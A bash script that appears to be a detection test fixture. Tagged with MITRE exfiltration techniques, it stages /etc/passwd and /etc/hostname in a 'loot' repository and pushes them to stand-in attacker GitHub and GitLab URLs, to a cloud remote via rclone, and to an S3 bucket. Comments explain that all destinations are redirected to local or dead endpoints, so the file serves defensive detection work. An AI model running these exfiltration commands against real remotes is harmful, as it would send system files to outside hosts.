#!/bin/bash
# Push collected files to a code host and a cloud bucket: git push straight to a GitHub URL and to a freshly added GitLab remote (both rewritten by git's url.insteadOf to a bare repository in the work directory), rclone copy to a cloud remote and aws s3 cp to a bucket whose endpoint is a closed loopback port.
# rclone is not installed here: it is a stand-in (a copy of /bin/true under /usr/local/bin, in
# the overlay) given rclone's arguments. aws is the real CLI; with no credentials and a closed
# endpoint it fails after its exec is recorded.
# technique: T1567.001 T1567.002
# expect: git-push-to-code-host cloud-storage-upload
set -eu
export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@example.invalid
export GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@example.invalid
git init -q --bare "$TPY_WORK/drop.git"
git init -q -b main loot
cp /etc/hostname /etc/passwd loot/
git -C loot add .
git -C loot commit -q -m data
git -C loot -c "url.file://$TPY_WORK/drop.git.insteadOf=https://github.com/example-attacker/loot.git" \
    push -q https://github.com/example-attacker/loot.git main
git -C loot remote add backup https://gitlab.com/example-attacker/drop.git
git -C loot config "url.file://$TPY_WORK/drop.git.insteadOf" https://gitlab.com/example-attacker/drop.git
git -C loot push -q backup main:copy
tar czf loot.tgz loot
cp /bin/true /usr/local/bin/rclone
rclone copy loot.tgz mega:backups/
port=$((20000 + ($$ + 13) % 20000))
AWS_ACCESS_KEY_ID=none AWS_SECRET_ACCESS_KEY=none AWS_MAX_ATTEMPTS=1 \
    aws s3 cp loot.tgz s3://example-attacker-drop/loot.tgz --endpoint-url "http://127.0.0.1:$port" \
    --cli-connect-timeout 2 > /dev/null 2>&1 || true
